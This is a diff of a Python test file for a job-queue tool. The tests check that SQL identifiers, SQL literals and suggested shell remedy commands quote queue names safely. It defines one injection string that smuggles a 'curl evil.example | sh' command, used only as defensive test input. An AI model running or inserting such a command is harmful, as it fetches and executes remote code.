@@ -18,12 +18,12 @@ from ayb_jobs import NewJob, enqueue
 from ayb_jobs.checks import queue, server
 from ayb_jobs.checks.diagnosis import QUESTIONS
 from ayb_jobs.checks.server import unheard
+from ayb_jobs.checks.why import why_job
 from ayb_jobs.cli.exits import ExitCode
 from ayb_jobs.model.daemons import DaemonRecord
 from ayb_jobs.model.limits import NewLimit
 from ayb_jobs.model.pauses import NewPause, PauseKind
 from ayb_jobs.model.schedules import zones
-from ayb_jobs.model.words import shell_line, sql_name, sql_text
 from ayb_jobs.storage.database import Connection, connect
 from ayb_jobs.storage.drift import made_columns, made_indexes
 from ayb_jobs.storage.fleet.daemons import beat
@@ -31,6 +31,7 @@ from ayb_jobs.storage.fleet.limits import set_limit
 from ayb_jobs.storage.fleet.pauses import pause
 from ayb_jobs.storage.migrate import migrate
 from ayb_jobs.storage.rows import one_row
+from ayb_jobs.storage.server import sql_name, sql_text
 from tests.cli.conftest import Cli
 from tests.factories import make_job, make_schedule
 
@@ -492,24 +493,26 @@ def test_a_person_reads_lines(conn: Connection, database_url: str) -> None:
 HOSTILE = "x'; curl evil.example | sh; \\"
 
 
-def test_a_name_in_a_remedy_does_nothing_of_its_own() -> None:
-    assert shlex.split(shell_line("ayb-jobs", "queues", "resume", HOSTILE)) == ["ayb-jobs", "queues", "resume", HOSTILE]
-    assert shell_line("ayb-jobs", "queues", "resume", "mail") == "ayb-jobs queues resume mail"
-
-
 def test_a_text_or_a_name_in_a_statement_does_nothing_of_its_own(conn: Connection) -> None:
-    for text in (HOSTILE, "plain", '"', "\\'"):
-        assert conn.execute(f"SELECT {sql_text(text)}, 1 AS {sql_name(text)}".encode()).fetchone() == (text, 1)
-        described = conn.execute(f"SELECT 1 AS {sql_name(text)}".encode()).description
+    for text in (HOSTILE, "plain", '"', "\\'", "user"):
+        as_text, as_name = sql_text(conn, text), sql_name(conn, text)
+        assert conn.execute(f"SELECT {as_text}, {as_name} FROM (SELECT 1) AS one ({as_name})".encode()).fetchone() == (
+            text,
+            1,
+        )
+        described = conn.execute(f"SELECT 1 AS {as_name}".encode()).description
         assert described is not None
         assert described[0].name == text
 
 
-def test_the_remedy_of_a_paused_or_failing_name_that_is_hostile_is_one_word(conn: Connection) -> None:
+@pytest.mark.parametrize(("name", "typed"), [("mail", "mail"), (HOSTILE, shlex.quote(HOSTILE))])
+def test_the_remedy_of_a_paused_or_failing_name_is_one_word(conn: Connection, name: str, typed: str) -> None:
     with conn.transaction():
-        pause(conn, NewPause(kind=PauseKind.QUEUE, name=HOSTILE), by="ada")
-    make_job(conn, queue=HOSTILE, run_at=sql.SQL("now() - interval '5 minutes'"))
+        pause(conn, NewPause(kind=PauseKind.QUEUE, name=name), by="ada")
+    waiting = make_job(conn, queue=name, run_at=sql.SQL("now() - interval '5 minutes'"))
     for _ in range(6):
-        make_job(conn, "failed", type=HOSTILE)
-    told = queue.paused(conn), queue.failing(conn)
-    assert [shlex.split(each.remedy)[-1] for each in told if each] == [HOSTILE] * 2
+        make_job(conn, "failed", type=name)
+    assert why_job(conn, waiting).reason.remedy == f"ayb-jobs queues resume {typed}"
+    told = [each.remedy for each in (queue.paused(conn), queue.failing(conn)) if each]
+    assert told == [f"ayb-jobs queues resume {typed}", f"ayb-jobs jobs list --state failed --type {typed}"]
+    assert [shlex.split(each)[-1] for each in told] == [name] * 2
